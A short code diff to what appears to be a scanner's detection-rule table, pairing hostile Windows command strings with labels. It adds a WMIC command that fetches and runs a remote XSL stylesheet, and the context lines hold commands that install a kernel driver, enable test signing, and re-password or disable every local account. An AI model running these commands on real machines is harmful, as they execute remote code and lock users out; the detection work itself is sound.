@@ -57,6 +57,8 @@ def rules(art: Artifact) -> set[str]:
      "install-script/session-hijack"),
     ("sc create perfctr type= kernel start= auto binPath= C:\\Windows\\System32\\drivers\\perfctr.sys", "install-script/kernel-driver"),
     ("bcdedit /set testsigning on", "install-script/kernel-driver"),
+    # blind set 30 (XSL script execution): WMIC fetches a stylesheet with script in it and runs it
+    ("wmic os get Caption /format:\"https://cdn.example/wbem/list.xsl\"", "install-script/remote-script"),
     # blind set 29 (account access removal): every local account re-passworded, disabled or locked
     ("for /f \"skip=4 tokens=1-3\" %%a in ('net user') do net user \"%%a\" \"!NEWPW!\"", "install-script/account-lockout"),
     ("net user %%u /active:no", "install-script/account-lockout"),
